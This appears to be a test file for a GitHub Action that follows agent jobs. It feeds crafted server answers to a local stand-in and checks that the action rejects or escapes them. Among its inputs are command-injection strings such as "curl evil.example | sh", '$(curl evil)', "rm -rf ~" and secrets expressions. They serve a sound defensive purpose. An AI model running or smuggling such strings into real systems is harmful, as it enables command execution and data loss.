// Answers that must not be trusted, through the bundled action against the local
// stand-in: an answer about another job, ids and statuses that are not plain words,
// pull request links that are not exactly one, pathological JSON, a Retry-After in a
// form RFC 9110 does not allow, and a `wait: false` run whose one answer says
// `failed`. Each case checks the exit code, the error text, the outputs and how many
// requests the service received.

import { runAction } from '../support/run-action.js'
import {
  count,
  everywhereVisible,
  failure,
  inputsFor,
  retryLines,
  strayCommands,
  withStandIn
} from '../support/faults-kit.js'
import type { Fault } from '../support/stand-in.js'

const MAY_HAVE_CREATED = 'a job may have been created anyway'
const OTHER_JOB = 'a job other than the one asked about'

describe('an answer about another job', () => {
  it.concurrent('is a bad answer on a poll: retried, never a new job-id', async () => {
    await withStandIn({}, async (standIn) => {
      standIn.inject({ method: 'GET', fault: { kind: 'patch', fields: { id: 'job_intruder' } } })
      const run = await runAction({ inputs: inputsFor(standIn.url) })

      const id = standIn.jobIds()[0] as string
      expect(run.exitCode).toBe(0)
      expect(retryLines(run)).toHaveLength(1)
      expect(retryLines(run)[0]).toContain(`${OTHER_JOB} (job job_intruder)`)
      expect(run.outputHistory['job-id']?.every((value) => value === id)).toBe(true)
      expect(run.outputs).toMatchObject({ 'job-id': id, status: 'completed' })
      expect(run.stdout).not.toMatch(/Following agent job job_intruder/)
      expect(count(standIn.requests, 'POST')).toBe(1)
      expect(count(standIn.requests, 'GET')).toBe(2)
    })
  })

  it.concurrent('fails the wait when every poll answers for another job', async () => {
    await withStandIn({}, async (standIn) => {
      standIn.inject({
        method: 'GET',
        times: 3,
        fault: { kind: 'patch', fields: { id: 'job_intruder' } }
      })
      const run = await runAction({ inputs: inputsFor(standIn.url) })

      const id = standIn.jobIds()[0] as string
      expect(run.exitCode).toBe(1)
      const error = failure(run)
      expect(error).toContain(`Stopped waiting for job ${id}`)
      expect(error).toContain(OTHER_JOB)
      expect(run.outputHistory['job-id']?.every((value) => value === id)).toBe(true)
      expect(run.outputs).toMatchObject({ 'job-id': id, status: 'active' })
      expect(count(standIn.requests, 'POST')).toBe(1)
      expect(count(standIn.requests, 'GET')).toBe(3)
    })
  })

  it.concurrent('is a bad answer to a follow-up message', async () => {
    await withStandIn({}, async (standIn) => {
      const first = await runAction({ inputs: inputsFor(standIn.url) })
      const id = first.outputs['job-id'] as string
      standIn.inject({
        method: 'POST',
        path: /\/message$/,
        fault: { kind: 'patch', fields: { id: 'job_intruder' } }
      })
      const run = await runAction({
        inputs: inputsFor(standIn.url, { 'job-id': id, prompt: 'And the limits.' })
      })

      expect(run.exitCode).toBe(1)
      const error = failure(run)
      expect(error).toContain(OTHER_JOB)
      expect(error).toContain(`The message may have reached job '${id}' anyway`)
      expect(run.outputHistory['job-id']?.every((value) => value === id)).toBe(true)
      expect(count(standIn.requests, 'POST')).toBe(2)
      expect(count(standIn.requests, 'GET')).toBe(1)
    })
  })
})

describe('ids and statuses that are not plain words', () => {
  it.concurrent.each<[string, Record<string, unknown>, string]>([
    ['an id with a command substitution', { id: 'job_$(curl evil)' }, 'not a plain identifier'],
    ['an id with a line break', { id: 'job_1\n::add-mask::x' }, 'not a plain identifier'],
    ['an id with a quote', { id: "job_1'; rm -rf ~; '" }, 'not a plain identifier'],
    ['a status with a line break', { status: 'active\n::warning::x' }, 'not one plain word'],
    ['a status with an expression', { status: '${{ secrets.X }}' }, 'not one plain word']
  ])('fails a create answered with %s, and sets no job-id', async (_, fields, reason) => {
    await withStandIn({}, async (standIn) => {
      standIn.inject({ method: 'POST', fault: { kind: 'patch', fields } })
      const run = await runAction({ inputs: inputsFor(standIn.url) })

      expect(run.exitCode).toBe(1)
      const error = failure(run)
      expect(error).toContain('POST /v2/agent/proj-test/job answered 201')
      expect(error).toContain(reason)
      expect(error).toContain(MAY_HAVE_CREATED)
      expect(run.outputs).toMatchObject({ 'job-id': '', status: '', job: '' })
      expect(strayCommands(run.stdout)).toEqual([])
      expect(count(standIn.requests, 'POST')).toBe(1)
      expect(count(standIn.requests, 'GET')).toBe(0)
    })
  })
})

describe('pull request links', () => {
  // The stand-in's own link is https://github.com/acme/docs/pull/<n>; these replace it on the final poll.
  it.concurrent.each<[string, string, Record<string, string>]>([
    [
      'a query that would run a command',
      'https://github.com/acme/docs/pull/7?x=$(id)',
      {
        'pr-link': 'https://github.com/acme/docs/pull/7',
        'pr-number': '7',
        'pr-repository': 'acme/docs'
      }
    ],
    [
      'a fragment',
      'https://github.com/acme/docs/pull/7#discussion',
      {
        'pr-link': 'https://github.com/acme/docs/pull/7',
        'pr-number': '7',
        'pr-repository': 'acme/docs'
      }
    ],
    [
      'a percent-encoded dollar in the owner',
      'https://github.com/ac%24%28id%29me/docs/pull/7',
      { 'pr-link': '', 'pr-number': '', 'pr-repository': '' }
    ],
    [
      'an encoded slash in the repository',
      'https://github.com/acme/do%2Fcs/pull/7',
      { 'pr-link': '', 'pr-number': '', 'pr-repository': '' }
    ],
    [
      'a path after the number',
      'https://github.com/acme/docs/pull/7/files',
      { 'pr-link': '', 'pr-number': '', 'pr-repository': '' }
    ],
    [
      'plain http',
      'http://github.com/acme/docs/pull/7',
      { 'pr-link': '', 'pr-number': '', 'pr-repository': '' }
    ],
    [
      'Markdown that closes a link',
      'https://github.com/acme/docs/pull/7)](https://evil.example',
      { 'pr-link': '', 'pr-number': '', 'pr-repository': '' }
    ]
  ])('reads a prLink with %s as exactly one pull request, or none', async (_, link, outputs) => {
    await withStandIn({}, async (standIn) => {
      standIn.inject({ method: 'GET', fault: { kind: 'patch', fields: { prLink: link } } })
      const run = await runAction({ inputs: inputsFor(standIn.url) })

      expect(run.exitCode).toBe(0)
      expect(run.outputs).toMatchObject({ status: 'completed', ...outputs })
      // Nothing a shell, an expression or Markdown would act on, however the link was encoded.
      for (const name of ['pr-link', 'pr-number', 'pr-repository']) {
        expect(run.outputs[name]).not.toMatch(/[$`'"\\;|<>()[\]{}\s%]/)
      }
      const job = JSON.parse(run.outputs.job ?? '') as { prLink: string | null }
      expect(job.prLink ?? '').toBe(outputs['pr-link'])
      expect(run.summary).not.toContain('evil.example"')
      expect(run.summary).not.toContain('<a href="http://')
      expect(count(standIn.requests, 'POST')).toBe(1)
      expect(count(standIn.requests, 'GET')).toBe(1)
    })
  })
})

describe('the job output', () => {
  it.concurrent('carries server text that a shell would act on only as JSON escapes', async () => {
    await withStandIn({}, async (standIn) => {
      const model = "x' ; curl evil.example | sh ; echo '$(id)`id`"
      standIn.inject({ method: 'GET', fault: { kind: 'patch', fields: { model } } })
      const run = await runAction({ inputs: inputsFor(standIn.url) })

      expect(run.exitCode).toBe(0)
      const raw = run.outputs.job ?? ''
      expect(raw).not.toMatch(/[$`'!<>&]/)
      expect((JSON.parse(raw) as { model: string }).model).toBe(model)
      expect(count(standIn.requests, 'POST')).toBe(1)
      expect(count(standIn.requests, 'GET')).toBe(1)
    })
  })
})

describe('pathological JSON', () => {
  const deep = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`
  const cases: [string, Fault][] = [
    [
      'nested a hundred thousand deep',
      { kind: 'raw', contentType: 'application/json', text: deep(100_000) }
    ],
    [
      'a job whose source is nested a hundred thousand deep, with no id',
      {
        kind: 'raw',
        contentType: 'application/json',
        text: `{"status":"active","source":${deep(100_000)}}`
      }
    ],
    [
      'an array of two hundred thousand items',
      { kind: 'raw', contentType: 'application/json', text: `[${'0,'.repeat(200_000)}0]` }
    ]
  ]

  it.concurrent.each(cases)(
    'fails a create answered with JSON %s, with the bad-answer line and the warning',
    async (_, fault) => {
      await withStandIn({}, async (standIn) => {
        standIn.inject({ method: 'POST', fault })
        const run = await runAction({ inputs: inputsFor(standIn.url) })

        expect(run.exitCode).toBe(1)
        const error = failure(run)
        expect(error).toContain('answered 200 with something that is not an agent job')
        expect(error).toContain(MAY_HAVE_CREATED)
        expect(error.length).toBeLessThan(1500)
        expect(run.stdout + run.stderr).not.toMatch(/call stack|RangeError|Unexpected error/)
        expect(run.outputs).toMatchObject({ 'job-id': '', status: '' })
        expect(count(standIn.requests, 'POST')).toBe(1)
        expect(count(standIn.requests, 'GET')).toBe(0)
      })
    }
  )

  it.concurrent('tolerates a poll answered with JSON nested a hundred thousand deep', async () => {
    await withStandIn({}, async (standIn) => {
      standIn.inject({ method: 'GET', fault: cases[0]?.[1] as Fault })
      const run = await runAction({ inputs: inputsFor(standIn.url) })

      expect(run.exitCode).toBe(0)
      expect(retryLines(run)).toHaveLength(1)
      expect(run.outputs).toMatchObject({ 'job-id': standIn.jobIds()[0], status: 'completed' })
      expect(count(standIn.requests, 'GET')).toBe(2)
    })
  })
})

describe('Retry-After outside the forms RFC 9110 allows', () => {
  it.concurrent.each([
    ['an ISO date years away', '2099-01-01T00:00:00Z'],
    ['a date without its weekday, years away', '01 Jan 2099 00:00:00 GMT'],
    ['words', 'in an hour or so'],
    ['a negative number', '-5']
  ])('treats %s as absent and backs off as usual', async (_, value) => {
    await withStandIn({}, async (standIn) => {
      standIn.inject({
        method: 'POST',
        fault: { kind: 'status', status: 429, headers: { 'retry-after': value } }
      })
      const run = await runAction({ inputs: inputsFor(standIn.url) })

      // A lenient parser would read a wait far past the timeout and fail at once.
      expect(run.exitCode).toBe(0)
      const retries = retryLines(run)
      expect(retries).toHaveLength(1)
      expect(retries[0]).toMatch(/^Retrying in \d+ms \(attempt 2\): Rate limited/)
      expect(run.outputs.status).toBe('completed')
      expect(count(standIn.requests, 'POST')).toBe(2)
      expect(count(standIn.requests, 'GET')).toBe(1)
    })
  })
})

describe('wait: false', () => {
  it.concurrent('fails the step when the one answer already says failed', async () => {
    await withStandIn({}, async (standIn) => {
      standIn.inject({ method: 'POST', fault: { kind: 'patch', fields: { status: 'failed' } } })
      const run = await runAction({ inputs: inputsFor(standIn.url, { wait: 'false' }) })

      const id = standIn.jobIds()[0] as string
      expect(run.exitCode).toBe(1)
      expect(failure(run)).toBe(`Job ${id} failed: the agent hit an unrecoverable error.`)
      expect(run.outputs).toMatchObject({ 'job-id': id, status: 'failed' })
      expect(count(standIn.requests, 'POST')).toBe(1)
      expect(count(standIn.requests, 'GET')).toBe(0)
    })
  })

  it.concurrent('fails the step when a single read of a job finds it failed', async () => {
    await withStandIn({}, async (standIn) => {
      const first = await runAction({ inputs: inputsFor(standIn.url, { prompt: 'fail: x' }) })
      const id = first.outputs['job-id'] as string
      const run = await runAction({
        inputs: inputsFor(standIn.url, { prompt: '', 'job-id': id, wait: 'false' })
      })

      expect(first.exitCode).toBe(1)
      expect(run.exitCode).toBe(1)
      expect(failure(run)).toContain(`Job ${id} failed`)
      expect(run.outputs).toMatchObject({ 'job-id': id, status: 'failed' })
      // One create and its poll for the first run; one read for the second.
      expect(count(standIn.requests, 'POST')).toBe(1)
      expect(count(standIn.requests, 'GET')).toBe(2)
    })
  })

  it.concurrent('still succeeds on an active job', async () => {
    await withStandIn({}, async (standIn) => {
      const run = await runAction({ inputs: inputsFor(standIn.url, { wait: 'false' }) })

      expect(run.exitCode).toBe(0)
      expect(run.outputs.status).toBe('active')
      expect(count(standIn.requests, 'POST')).toBe(1)
      expect(count(standIn.requests, 'GET')).toBe(0)
    })
  })
})

describe('the API key', () => {
  it.concurrent.each([
    ['an invisible character', 'mint_abc\u200bdef123'],
    ['a non-breaking space', 'mint_abc\u00a0def123'],
    ['a letter outside ASCII', 'mint_abcdéf123']
  ])('is refused before any request when it holds %s, without echoing it', async (_, key) => {
    await withStandIn({ apiKey: key }, async (standIn) => {
      const run = await runAction({ inputs: inputsFor(standIn.url, { 'api-key': key }) })

      expect(run.exitCode).toBe(1)
      const error = failure(run)
      expect(error).toMatch(
        /^Input 'api-key' must be one token of the form mint_<secret>, in visible ASCII/
      )
      expect(error).not.toMatch(/may have been created|connection/)
      expect(everywhereVisible(run)).not.toContain('abc')
      expect(run.outputs).toEqual({})
      expect(standIn.requests).toEqual([])
    })
  })
})

describe('a job summary that cannot be written', () => {
  it.concurrent('is a warning, and the step still follows the job', async () => {
    await withStandIn({}, async (standIn) => {
      const run = await runAction({
        inputs: inputsFor(standIn.url),
        env: { GITHUB_STEP_SUMMARY: '/nonexistent-folder/summary.md' }
      })

      expect(run.exitCode).toBe(0)
      const warnings = run.stdout.split('\n').filter((line) => line.startsWith('::warning::'))
      expect(warnings).toHaveLength(1)
      expect(warnings[0]).toContain('Could not write the job summary (GITHUB_STEP_SUMMARY)')
      expect(run.outputs).toMatchObject({ 'job-id': standIn.jobIds()[0], status: 'completed' })
      expect(count(standIn.requests, 'POST')).toBe(1)
      expect(count(standIn.requests, 'GET')).toBe(1)
    })
  })
})
